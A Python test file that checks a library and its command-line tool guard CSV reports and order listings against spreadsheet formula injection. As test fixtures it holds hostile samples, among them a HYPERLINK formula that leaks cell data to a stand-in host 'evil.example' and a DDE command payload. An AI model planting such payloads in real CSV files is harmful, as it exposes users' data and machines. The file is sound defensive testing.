"""Issue 12, point 4: every CSV the library and the CLI write is safe to open in a
spreadsheet. A text cell a spreadsheet would read as a formula (``=``, ``+``, ``-``, ``@``,
tab, CR, LF or NUL first, or ``= + - @`` after leading whitespace or quotes) is prefixed
with ``'`` (OWASP); numbers the library writes itself stay numbers; ``csv_raw=True`` /
``--csv-raw`` writes the values unchanged; JSONL stays raw.

The CLI commands call asyncio.run(), so their tests are plain (sync) functions.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import tango_async as ta
import tango_async.testing as ta_testing
from tango_async.bulk import FORMULA_TRIGGERS, RowResult, csv_cell, write_report
from tango_async.bulk._report import REPORT_FIELDS
from tango_async.cli._app import cli
from tango_async.cli._orders import CSV_COLUMNS
from tango_async.testing import Sandbox

SETTINGS = settings(
    derandomize=True,  # the same examples on every run: CI is deterministic
    database=None,
    deadline=None,
    print_blob=False,
    suppress_health_check=[HealthCheck.too_slow],
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
# what a spreadsheet may skip before it sees a formula's first character
_SKIPPED = re.compile(r'[\s"]*')  # (a leading ' is the neutralising mark: text)
_ASCII_TRIGGERS = "=+-@"


def formula_like(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula (the rule the writer must defeat)?"""
    if not cell:
        return False
    if cell[0] in FORMULA_TRIGGERS:
        return True
    rest = cell[_SKIPPED.match(cell).end() :]  # type: ignore[union-attr]
    return bool(rest) and rest[0] in FORMULA_TRIGGERS


def read_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f, strict=True))


def result(row: int, **texts: str | None) -> RowResult:
    return RowResult(
        row=row,
        external_ref_id=texts.get("ref") or "",
        outcome="failed",
        reference_order_id=texts.get("order"),
        status=texts.get("status"),
        http_status=400,
        i18n_key=texts.get("key"),
        message=texts.get("message"),
    )


# --- one cell -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        HYPERLINK,
        DDE,
        "+1+2",
        "-2+3",
        "-5",  # a text: a user's or the server's, never trusted to be a number
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "\tplain",  # tab, CR, LF first are neutralised whatever follows
        " =1+1",
        "  \t +1",
        '"=1+1',
        '" \t"-1',
        "\u00a0=1+1",  # no-break space
        "\u3000=1+1",  # ideographic space
        "\uff1d1+1",  # full-width =
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_formula_cells_get_a_quote(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value  # prefixed, nothing else changed
    assert csv_cell(value, raw=True) == value


@pytest.mark.parametrize(
    "value",
    ["", "plain", "a=b", "tb5d84eea2189791a085999a183d33cf74d3848914", "RA261202-00001-37",
     "COMPLETE", "400.004", " plain", "x@example.com", "2016-01-01T00:00:00.000Z", "'quoted'",
     "'=1+1"],
)  # fmt: skip
def test_other_cells_are_unchanged(value: str) -> None:
    assert csv_cell(value) == value == csv_cell(value, raw=True)


def test_numbers_the_library_writes_stay_numbers() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(7) == "7"
    assert csv_cell(-5) == "-5"  # an int: a number, not a formula
    assert csv_cell(Decimal("-5.50")) == "-5.50"
    assert csv_cell(Decimal("1E+3")) == "1000"  # plain, never an exponent
    assert csv_cell(Decimal("NaN")) == "NaN"
    assert csv_cell(Decimal("-Infinity")) == "'-Infinity"  # not finite: a text
    assert csv_cell(True) == "True"
    # number=True: a text the library formatted as a number (an amount column)
    assert csv_cell("-5", number=True) == "-5"
    assert csv_cell("-5.25", number=True) == "-5.25"
    assert csv_cell("-5", number=False) == "'-5"
    for text in ("-5+cmd|' /C calc'!A0", "-1e3", "-Infinity", "+5", "-", "-5.", "=5"):
        assert csv_cell(text, number=True) == "'" + text


# --- the bulk report ------------------------------------------------------------------------


def test_report_csv_neutralises_the_reproduction(tmp_path: Path) -> None:
    rows = [
        result(1, ref=HYPERLINK, message="+1 overdraft", key="@x", status="-1"),
        result(2, ref="ok-00002", message=DDE, order="=A1"),
        result(3, ref="\t=1+1", message="\r=2+2"),
    ]
    path = write_report(rows, tmp_path / "report.csv")
    header, *cells = read_cells(path)
    assert tuple(header) == REPORT_FIELDS
    assert cells[0][:2] == ["1", "'" + HYPERLINK]
    assert cells[0][6] == "'+1 overdraft" and cells[0][5] == "'@x"
    assert cells[0][4] == "400"  # the HTTP status (an int) stays a number
    assert cells[1][6] == "'" + DDE and cells[1][2] == "'=A1"
    assert cells[2][1] == "'\t=1+1" and cells[2][6] == "'\r=2+2"
    assert not any(formula_like(c) for row in cells for c in row)

    raw = write_report(rows, tmp_path / "raw.csv", csv_raw=True)
    _, *raw_cells = read_cells(raw)
    assert raw_cells[0][1] == HYPERLINK and raw_cells[1][6] == DDE
    assert raw_cells[2][1] == "\t=1+1" and raw_cells[2][6] == "\r=2+2"

    # JSONL stays raw whatever csv_raw says
    jsonl = write_report(rows, tmp_path / "report.jsonl")
    lines = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert lines[0]["externalRefID"] == HYPERLINK and lines[1]["message"] == DDE


def test_report_raw_is_what_it_always_wrote(tmp_path: Path) -> None:
    """csv_raw=True writes byte for byte what the csv module writes for the values."""
    rows = [result(1, ref=HYPERLINK, message='a "quoted", message'), result(2, ref="x-00002")]
    path = write_report(rows, tmp_path / "raw.csv", csv_raw=True)
    expected = io.StringIO(newline="")
    writer = csv.writer(expected)
    writer.writerow(REPORT_FIELDS)
    writer.writerow([1, HYPERLINK, "", "failed", 400, "", 'a "quoted", message'])
    writer.writerow([2, "x-00002", "", "failed", 400, "", ""])
    assert path.read_bytes() == expected.getvalue().encode()


def test_report_arguments_are_checked(tmp_path: Path) -> None:
    rows = [result(1, ref="x-00001")]
    with pytest.raises(ta.ValidationError) as info:
        write_report(rows, tmp_path / "r.csv", format="xlsx")
    assert info.value.field == "format"
    with pytest.raises(ta.ValidationError) as info:
        write_report(rows, tmp_path / "r.csv", csv_raw="yes")  # type: ignore[arg-type]
    assert info.value.field == "csv_raw"
    assert not (tmp_path / "r.csv").exists()  # nothing written


# any text a user or a server can put in a cell, weighted towards the dangerous starts
_HOSTILE = st.text(
    alphabet=st.sampled_from(
        [*"=+-@\t\r\n\x00 \"',;|!()&A1", "\u00a0", "\u3000", "\uff1d", "\uff0b", "\uff0d",
         "\uff20", "\u2028", "x", "é", "5"]
    ),
    max_size=12,
) | st.text(max_size=12)  # fmt: skip


@SETTINGS
@given(
    st.lists(st.tuples(_HOSTILE, _HOSTILE, st.none() | _HOSTILE, st.none() | _HOSTILE), max_size=8)
)
def test_property_no_cell_read_back_is_a_formula(
    values: list[tuple[str, str, str | None, str | None]],
) -> None:
    """Any row of hostile texts, written and read back by csv.reader: no cell starts a
    formula unless raw was asked; a neutralised cell is the value behind one quote; raw
    writes the values unchanged."""
    rows = [
        result(i + 1, ref=ref, message=message, order=order, key=key)
        for i, (ref, message, order, key) in enumerate(values)
    ]
    with tempfile.TemporaryDirectory() as tmp:
        safe = read_cells(write_report(rows, Path(tmp) / "safe.csv"))
        raw = read_cells(write_report(rows, Path(tmp) / "raw.csv", csv_raw=True))
    assert len(safe) == len(raw) == len(rows) + 1
    for safe_row, raw_row, res in zip(safe[1:], raw[1:], rows, strict=True):
        expected = [
            str(res.row), res.external_ref_id, res.reference_order_id or "", "failed", "400",
            res.i18n_key or "", res.message or "",
        ]  # fmt: skip
        assert raw_row == expected  # raw: unchanged
        for cell, value in zip(safe_row, expected, strict=True):
            assert not formula_like(cell), (cell, value)
            assert cell == value or cell == "'" + value  # nothing lost but one quote


@SETTINGS
@given(st.text(max_size=20), st.booleans())
def test_property_csv_cell(value: str, number: bool) -> None:
    cell = csv_cell(value, number=number)
    assert cell in (value, "'" + value)
    if number and re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value):
        assert cell == value
    else:
        assert not formula_like(cell)
        assert (cell != value) == formula_like(value)
    assert csv_cell(value, raw=True, number=number) == value


# --- through the CLI: submit's report, orders list --format csv ----------------------------


def invoke(*args: str | Path) -> Result:
    res = CliRunner().invoke(cli, [str(a) for a in args])
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    return res


HEADER = (
    "customer_identifier,account_identifier,utid,amount,recipient.email,recipient.first_name,"
    "external_ref_id,campaign"
)


def test_submit_report_is_spreadsheet_safe(tmp_path: Path) -> None:
    file = tmp_path / "orders.csv"
    refs = [HYPERLINK, "+cmd-00002", "-2+3-00003", "@SUM-00004"]
    with file.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(HEADER.split(","))
        for n, ref in enumerate(refs, 1):
            writer.writerow(
                ["cust-12345", "acct-12345", "U561593", f"{n}.00", f"p{n}@x.com", "=A1", ref, DDE]
            )
    res = invoke("--sandbox", "local", "submit", file, "--order-rate", "50")
    assert res.exit_code == 0, res.output
    _, *cells = read_cells(tmp_path / "orders.results.csv")
    assert [row[1] for row in cells] == ["'" + ref for ref in refs]
    assert not any(formula_like(c) for row in cells for c in row)

    # resume writes the report again: raw, as the job was started (--csv-raw is kept)
    raw_file = tmp_path / "raw.csv"
    raw_file.write_text(file.read_text(encoding="utf-8"), encoding="utf-8")
    res = invoke("--sandbox", "local", "submit", raw_file, "--order-rate", "50", "--csv-raw")
    assert res.exit_code == 0, res.output
    _, *raw_cells = read_cells(tmp_path / "raw.results.csv")
    assert [row[1] for row in raw_cells] == refs
    again = invoke("--sandbox", "local", "resume", tmp_path / "raw.csv.journal")
    assert again.exit_code == 0, again.output
    assert [row[1] for row in read_cells(tmp_path / "raw.results.csv")[1:]] == refs


def _seeded(monkeypatch: pytest.MonkeyPatch, **fields: object) -> None:
    """``--sandbox local`` starts with one stored order with these (hostile) fields."""

    class Seeded(Sandbox):
        async def start(self) -> Sandbox:
            await super().start()
            self.seed_orders(
                1, start=datetime(2024, 1, 1, tzinfo=UTC), step=timedelta(hours=1), **fields
            )
            return self

    monkeypatch.setattr(ta_testing, "Sandbox", Seeded)


HOSTILE_ORDER: dict[str, object] = {
    "external_ref_id": HYPERLINK,
    "customer_identifier": "=1+1",  # what a server sends is not trusted either
    "account_identifier": "@SUM(A1:A2)",
    "utid": "+U561593",
    "recipient": {"email": "-2+3@example.com", "firstName": "=A1"},
    "amount": Decimal("-5"),
}


def test_orders_list_csv_is_spreadsheet_safe(monkeypatch: pytest.MonkeyPatch) -> None:
    _seeded(monkeypatch, **HOSTILE_ORDER)
    res = invoke("--sandbox", "local", "orders", "list", "--format", "csv")
    assert res.exit_code == 0, res.output
    [header, row] = list(csv.reader(io.StringIO(res.stdout)))
    assert header == [c for c, _ in CSV_COLUMNS]
    cells = dict(zip(header, row, strict=True))
    assert cells["externalRefID"] == "'" + HYPERLINK
    assert cells["customerIdentifier"] == "'=1+1"
    assert cells["accountIdentifier"] == "'@SUM(A1:A2)"
    assert cells["recipientEmail"] == "'-2+3@example.com"
    assert cells["amount"] == "-5"  # an amount the CLI formats: a number
    assert not any(formula_like(c) for c in row if c != cells["amount"])

    raw = invoke("--sandbox", "local", "orders", "list", "--format", "csv", "--csv-raw")
    assert raw.exit_code == 0, raw.output
    raw_cells = dict(zip(header, list(csv.reader(io.StringIO(raw.stdout)))[1], strict=True))
    assert raw_cells["externalRefID"] == HYPERLINK
    assert raw_cells["customerIdentifier"] == "=1+1"
    assert raw_cells["recipientEmail"] == "-2+3@example.com"


def test_orders_list_jsonl_stays_raw(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    _seeded(monkeypatch, **HOSTILE_ORDER)
    out = tmp_path / "orders.jsonl"
    res = invoke("--sandbox", "local", "orders", "list", "-o", out)
    assert res.exit_code == 0, res.output
    [order] = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert order["externalRefID"] == HYPERLINK
    assert order["customerIdentifier"] == "=1+1"
